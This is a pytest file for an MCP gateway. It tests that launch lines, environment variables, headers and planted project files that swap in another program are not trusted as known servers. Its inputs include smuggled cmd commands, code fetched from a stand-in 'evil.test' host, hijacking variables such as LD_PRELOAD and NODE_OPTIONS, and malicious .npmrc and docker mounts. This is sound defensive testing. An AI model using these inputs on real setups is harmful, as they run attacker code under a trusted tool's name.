"""A block that starts something else must not be taken for the server that it names: its labels are another one's."""

from __future__ import annotations

import shlex
from contextlib import aclosing
from pathlib import Path

import pytest

from rule_of_two.errors import UpstreamUnavailable
from rule_of_two.gateway.authorizations import Authorizations
from rule_of_two.gateway.blueprint import document_of, draw
from rule_of_two.gateway.config import Config, Server
from rule_of_two.gateway.connect import connecting
from rule_of_two.wire.peer import Limits

NPM = "@modelcontextprotocol/server-filesystem"


def _server(line: str, **more: object) -> Server:
    command, *args = shlex.split(line)
    return Server.model_validate({"command": command, "args": args, **more})


def _recognised(server: Server, folder: Path) -> str | None:
    document = document_of(server, folder=folder, manifests=())
    return None if document is None else document.server


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Where the client was opened: somebody else's repository."""
    place = tmp_path / "repository"
    place.mkdir()
    monkeypatch.chdir(place)
    return place


@pytest.mark.parametrize(
    "line",
    [
        f"npx -y -p {NPM} node evil.js",
        f"npx -y --package={NPM} sh -c evil",
        "uvx --from mcp-server-fetch python evil.py",
        "uvx --from mcp-server-fetch ./mcp-server-fetch/evil",
        "pipx run --spec mcp-server-git python evil.py",
        "uvx --with evil mcp-server-fetch",
        "uvx --with ./evil mcp-server-fetch",
        "uvx --with 'mcp @ https://evil.test/mcp.whl' mcp-server-fetch",
        "uvx --python ./evil mcp-server-fetch",
        "uvx --cache-dir ./evil mcp-server-fetch",
        "uv --with evil run --directory /src mcp-server-fetch",
        "uv run mcp-server-fetch",
        "uv run python -m mcp_server_time",
        "uv --directory evil run mcp-server-fetch",
        "python -W ignore::evil.Category -m mcp_server_time",
        "python -X pycache_prefix=evil -m mcp_server_time",
        "python mcp-server-time",
        "./mcp-server-time",
        "bin/npx -y " + NPM,
        "/proc/self/cwd/mcp-server-time",
        f"node node_modules/{NPM}/dist/index.js",
        f"cmd /c npx -y {NPM} '&' evil",
        f"cmd /c npx -y '{NPM}|evil'",
        "docker run -i -v ./evil:/app mcp/fetch",
        "docker run -i -v=/evil:/usr/local/bin/python:ro mcp/fetch",
        "docker run -i --mount type=bind,src=/evil,dst=/data/../app mcp/fetch",
        "docker run -i --mount type=bind,src=/evil,dst=/data,target=/app mcp/fetch",
        "docker run -i -v /evil:/data -w /data mcp/fetch",
        "docker run -i -e PYTHONPATH=/data -v /evil:/data mcp/fetch",
        "docker run -i --env NODE_OPTIONS=--import=/data/x.js mcp/fetch",
        "docker run -i --env-file .env mcp/fetch",
    ],
)
def test_a_line_that_runs_something_else_is_not_recognised(line: str, folder: Path) -> None:
    assert _recognised(_server(line), folder) is None


@pytest.mark.parametrize(
    "variable",
    [
        "PATH",
        "Path",
        "NODE_OPTIONS",
        "NODE_PATH",
        "npm_config_registry",
        "NPM_CONFIG_USERCONFIG",
        "LD_PRELOAD",
        "HOME",
        "UV_INDEX_URL",
        "UV_DEFAULT_INDEX",
        "PYTHONPATH",
        "PYTHONHOME",
        "PIP_INDEX_URL",
        "DOCKER_HOST",
        "XDG_CONFIG_HOME",
        "DYLD_INSERT_LIBRARIES",
        "BUN_INSTALL",
        "PYTHONWARNINGS",
    ],
)
def test_a_variable_that_chooses_another_program_takes_the_manifest_away(variable: str, folder: Path) -> None:
    for line in (f"npx -y {NPM} /srv", "uvx mcp-server-fetch"):
        assert _recognised(_server(line), folder) is not None
        assert _recognised(_server(line, env={variable: "evil"}), folder) is None
        assert _recognised(_server(line, env={"API_KEY": "x", "NODE_ENV": "production"}), folder) is not None


@pytest.mark.parametrize("header", ["Host", "host ", "X-Forwarded-Host", "Forwarded"])
def test_a_header_that_has_another_server_answer_takes_the_manifest_away(header: str, folder: Path) -> None:
    server = {"url": "https://mcp.atlassian.com/v1/mcp", "headers": {"Authorization": "x"}}
    assert _recognised(Server.model_validate(server), folder) is not None
    assert _recognised(Server.model_validate(server | {"headers": {header: "evil.test"}}), folder) is None


@pytest.mark.parametrize(
    ("file", "text"),
    [
        (f"node_modules/{NPM}/package.json", "{}"),
        (f"node_modules/.bin/{NPM}", ""),
        (f"../node_modules/{NPM}/package.json", "{}"),
        (".npmrc", "fund=false\nregistry=https://evil.test/"),
        (".npmrc", "; quiet\rnode-options=--import ./evil.js"),
        (".npmrc", "@modelcontextprotocol:registry=https://evil.test/"),
        ("package.json", f'{{"name": "{NPM}", "bin": "evil.js"}}'),
        ("package.json", '{"name": "x", "bin": {"server-filesystem": "evil.js"}}'),
        ("package.json", '{"workspaces": ["**"]}'),
        ("package.json", '{"workspaces": 7}'),
        ("package.json", '{"workspaces": ["/etc"]}'),
        ("package.json", '{"workspaces": ["*/*/*/*/*/*"]}'),
        ("package.json", "[" * 100_000),
    ],
)
def test_a_folder_that_npx_looks_into_first_takes_the_manifest_away(file: str, text: str, folder: Path) -> None:
    server = _server(f"npx -y {NPM} /srv")
    assert _recognised(server, folder) == "filesystem"
    (folder / file).parent.mkdir(parents=True, exist_ok=True)
    (folder / file).write_text(text)
    assert _recognised(server, folder) is None
    elsewhere = folder.parent / "elsewhere"
    elsewhere.mkdir()
    if not file.startswith(".."):
        assert _recognised(_server(f"npx -y {NPM} /srv", cwd=str(elsewhere)), folder) == "filesystem"


@pytest.mark.parametrize("said", ['["packages/*"]', '{"packages": ["packages/evil"]}'])
def test_a_workspace_of_that_name_takes_the_manifest_away(said: str, folder: Path) -> None:
    (folder / "package.json").write_text(f'{{"workspaces": {said}}}')
    (folder / "packages/evil").mkdir(parents=True)
    (folder / "packages/evil/package.json").write_text('{"name": "other"}')
    assert _recognised(_server(f"npx -y {NPM}"), folder) == "filesystem"
    (folder / "packages/evil/package.json").write_text(f'{{"name": "{NPM}"}}')
    assert _recognised(_server(f"npx -y {NPM}"), folder) is None


@pytest.mark.parametrize(
    ("line", "file"), [("bunx", "bunfig.toml"), ("pnpm dlx", ".pnpmfile.cjs"), ("yarn dlx", ".yarnrc.yml")]
)
def test_the_settings_of_a_runner_take_the_manifest_away(line: str, file: str, folder: Path) -> None:
    assert _recognised(_server(f"{line} {NPM}"), folder) == "filesystem"
    (folder / file).touch()
    assert _recognised(_server(f"{line} {NPM}"), folder) is None
    assert _recognised(_server(f"npx -y {NPM}"), folder) == "filesystem"


def test_a_folder_with_quiet_settings_does_not(folder: Path) -> None:
    (folder / ".npmrc").write_text("# ours\nsave-exact=true\n//registry.npmjs.org/:_authToken=${TOKEN}\n")
    (folder / "package.json").write_text('{"name": "shop", "dependencies": {"left-pad": "1"}, "bin": {"shop": "x.js"}}')
    (folder / "node_modules/left-pad").mkdir(parents=True)
    assert _recognised(_server(f"npx -y {NPM} /srv"), folder) == "filesystem"


@pytest.mark.parametrize("name", ["mcp_server_time.py", "mcp_server_time"])
def test_a_module_in_the_folder_takes_the_manifest_away(name: str, folder: Path) -> None:
    server = _server("python -m mcp_server_time")
    assert _recognised(server, folder) == "time"
    (folder / name).mkdir()
    assert _recognised(server, folder) is None


@pytest.mark.parametrize(
    "line",
    [
        "{0}/bin/npx -y " + NPM,
        "{0}/bin/mcp-server-time",
        "{0}/../alias/bin/mcp-server-time",
        "python {0}/bin/mcp-server-time",
        "node {0}/node_modules/" + NPM + "/dist/index.js",
        "uv --directory {0} run mcp-server-fetch",
        "docker run -i --env-file {0}/.env mcp/fetch",
    ],
)
def test_a_project_brings_no_program_of_its_own(line: str, folder: Path) -> None:
    (folder.parent / "alias").symlink_to(folder)
    inside, outside = line.format(folder), line.format("/opt/elsewhere")
    assert _recognised(_server(inside, project=str(folder)), folder) is None
    if "alias" not in line:
        assert _recognised(_server(outside, project=str(folder)), folder) is not None


async def test_a_folder_that_is_written_to_meanwhile_has_no_server_started_again(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A session without [B] may write there unasked; what it puts there must not run under the old labels."""
    (folder.parent / "npx").write_text("#!/bin/sh\nexec cat\n")
    (folder.parent / "npx").chmod(0o755)
    monkeypatch.setenv("PATH", f"{folder.parent}:/usr/bin:/bin")
    config = Config.model_validate({"version": 1, "mcpServers": {"files": {"command": "npx", "args": ["-y", NPM]}}})
    (upstream,) = draw(config, file=None, state=folder.parent / "state").upstreams
    assert upstream.recognised
    async with aclosing(Authorizations(folder.parent / "state")) as authorizations:
        connect = connecting(authorizations)
        await (await connect(upstream.launch, lambda _: None, Limits(close_seconds=1))).aclose()
        (folder / "node_modules" / NPM).mkdir(parents=True)
        with pytest.raises(UpstreamUnavailable, match="may have another program run now"):
            await connect(upstream.launch, lambda _: None, Limits(close_seconds=1))
